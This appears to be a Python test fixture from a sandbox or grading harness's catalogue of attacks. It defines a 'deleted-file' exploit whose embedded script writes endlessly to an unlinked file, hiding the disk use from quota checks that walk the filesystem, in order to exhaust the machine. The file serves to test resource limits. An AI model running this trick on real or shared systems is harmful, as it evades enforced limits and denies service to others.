"""A file that was deleted and goes on growing in the hands of a process that has it open."""

from scoring.attacks.exploit import Exploit

SCRIPT = '''\
import os
import subprocess
import sys
import time

CHILD = """
import os, time
handle = os.open("gone", os.O_CREAT | os.O_RDWR)
os.unlink("gone")
end = time.time() + 15
while time.time() < end:
    try:
        os.write(handle, bytes(1 << 20))
    except OSError:
        handle = os.open("gone%f" % time.time(), os.O_CREAT | os.O_RDWR)
        os.unlink([n for n in os.listdir(".") if n.startswith("gone")][0])
"""
child = subprocess.Popen([sys.executable, "-c", CHILD], cwd=os.getcwd())
time.sleep(12)
child.kill()
'''

EXPLOIT = Exploit(
    name="deleted-file",
    flaw="exhausts the machine",
    source="exploit catalogue of verification.md section 4",
    idea="no walk over the disk finds it, so a limit that is kept by walking is not kept",
    files={"tmp/deleted_file.py": SCRIPT},
    command="python3 /tmp/deleted_file.py",
)
